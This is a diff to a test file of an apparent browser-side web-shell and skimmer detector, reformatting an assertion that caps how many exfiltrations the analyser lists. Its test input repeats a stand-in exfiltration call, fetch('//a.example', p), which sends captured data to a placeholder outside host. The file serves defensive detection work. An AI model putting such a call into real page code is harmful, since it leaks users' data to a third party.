@@ -7,9 +7,7 @@ from webshellhunt.analysis.browser.sent import MOST_SENT
 
 
 def test_no_more_exfiltrations_are_listed_than_the_bound() -> None:
-    assert (
-        len(analysed(TAKEN + 'fetch("//a.example", p);' * (MOST_SENT + 5)).exfiltrations) == MOST_SENT
-    )
+    assert len(analysed(TAKEN + 'fetch("//a.example", p);' * (MOST_SENT + 5)).exfiltrations) == MOST_SENT
 
 
 def test_a_leak_has_its_path_in_words() -> None:
